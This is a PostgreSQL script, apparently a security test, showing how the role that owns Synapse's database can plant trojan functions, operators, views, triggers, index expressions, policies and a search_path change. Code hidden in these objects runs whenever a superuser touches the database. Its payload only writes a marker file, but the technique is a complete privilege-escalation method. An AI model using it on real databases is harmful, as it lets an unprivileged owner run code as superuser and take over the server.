-- What Synapse's role can do with a database that it owns; run as that role, in that database.
--
-- Whoever runs `strike` with a superuser's rights leaves a file in /var/lib/postgresql that is
-- called after the way it got there. For anybody else nothing happens, and Synapse goes on.
create schema evil;

create function evil.strike(way text) returns boolean language plpgsql volatile as $$
declare
    act text := pg_catalog.format('copy (select 1) to %L', '/var/lib/postgresql/struck-' || way);
begin
    if session_user = 'postgres' or pg_catalog.current_setting('is_superuser') = 'on' then
        begin
            execute act;
        exception when others then
            perform pg_catalog.set_config('role', 'none', false);
            execute act;
        end;
    elsif pg_catalog.current_setting('application_name') = any (array['altpeter-matrix', 'psql']) then
        perform pg_catalog.pg_sleep(seconds) from evil.delay;
    end if;
    return true;
exception when others then
    return true;
end $$;
create table evil.delay as select 0 as seconds;

-- Functions that are found before those of pg_catalog.
create function evil.to_regclass(text) returns regclass language plpgsql as
    $$ begin perform evil.strike('to_regclass'); return pg_catalog.to_regclass($1); end $$;
create function evil.pg_get_userbyid(oid) returns name language plpgsql as
    $$ begin perform evil.strike('pg_get_userbyid'); return pg_catalog.pg_get_userbyid($1); end $$;
create function evil.format(text, variadic text[]) returns text language plpgsql as
    $$ begin perform evil.strike('format'); return pg_catalog.format($1, variadic $2); end $$;
create function evil.clock_timestamp() returns timestamptz language plpgsql as
    $$ begin perform evil.strike('clock_timestamp'); return pg_catalog.clock_timestamp(); end $$;
create function evil.current_setting(text) returns text language plpgsql as
    $$ begin perform evil.strike('current_setting'); return pg_catalog.current_setting($1); end $$;
create function evil.larger(integer, integer) returns integer language plpgsql as
    $$ begin perform evil.strike('max'); return greatest($1, $2); end $$;
create aggregate evil.max(integer) (sfunc = evil.larger, stype = integer);

-- Operators: = and ~~, and the || that puts the names of an inventory together.
create function evil.equal(name, text) returns boolean language plpgsql as
    $$ begin perform evil.strike('equal'); return $1::text operator(pg_catalog.=) $2; end $$;
create operator evil.= (leftarg = name, rightarg = text, function = evil.equal);
create function evil.equal(name, name) returns boolean language plpgsql as
    $$ begin perform evil.strike('equal-names'); return $1::text operator(pg_catalog.=) $2::text; end $$;
create operator evil.= (leftarg = name, rightarg = name, function = evil.equal);
create function evil.alike(name, text) returns boolean language plpgsql as
    $$ begin perform evil.strike('like'); return $1 operator(pg_catalog.~~) $2; end $$;
create operator evil.~~ (leftarg = name, rightarg = text, function = evil.alike);
create function evil.joined(text, name) returns text language plpgsql as
    $$ begin perform evil.strike('joined'); return pg_catalog.concat($1, $2); end $$;
create operator evil.|| (leftarg = text, rightarg = name, function = evil.joined);

-- A cast, and a domain with a condition of its own.
create type evil.number as (value integer);
create function evil.as_text(evil.number) returns text language plpgsql as
    $$ begin perform evil.strike('cast'); return ($1).value::text; end $$;
create cast (evil.number as text) with function evil.as_text(evil.number) as implicit;
create domain evil.checked as text check (evil.strike('domain'));

-- Views in the place of Synapse's tables. Through a simple one Synapse reads and writes as before;
-- without the first it would make an empty table there, and begin its migrations anew.
create view evil.applied_schema_deltas as select * from public.applied_schema_deltas;
create view evil.users as select * from public.users where evil.strike('users');
create view evil.events as select * from public.events where evil.strike('events');
create view evil.schema_version as
    select * from public.schema_version where evil.strike('schema_version');
create view evil.schema_compat_version as
    select * from public.schema_compat_version where evil.strike('schema_compat_version');

-- Tables that run something when they are read, written, restored or analyzed.
create function evil.constant(text) returns text language plpgsql immutable as
    $$ begin perform evil.strike('index'); return $1; end $$;
create index users_struck on public.users (evil.constant(name));
create statistics evil.struck on (evil.constant(name)), is_guest from public.users;
create function evil.on_write() returns trigger language plpgsql as
    $$ begin perform evil.strike('trigger'); return new; end $$;
create trigger struck before insert or update on public.users
    for each row execute function evil.on_write();
alter table public.users add constraint struck check (evil.strike('check'));
alter table public.users add column struck evil.checked default 'x';
alter table public.users enable row level security;
alter table public.users force row level security;
create policy struck on public.users using (evil.strike('policy'));
create materialized view evil.refreshed as select evil.strike('refresh') from public.users;

alter database synapse set search_path = evil, public, pg_catalog;
alter role "matrix-synapse" set search_path = evil, public, pg_catalog;
alter role "matrix-synapse" in database synapse set search_path = evil, public, pg_catalog;
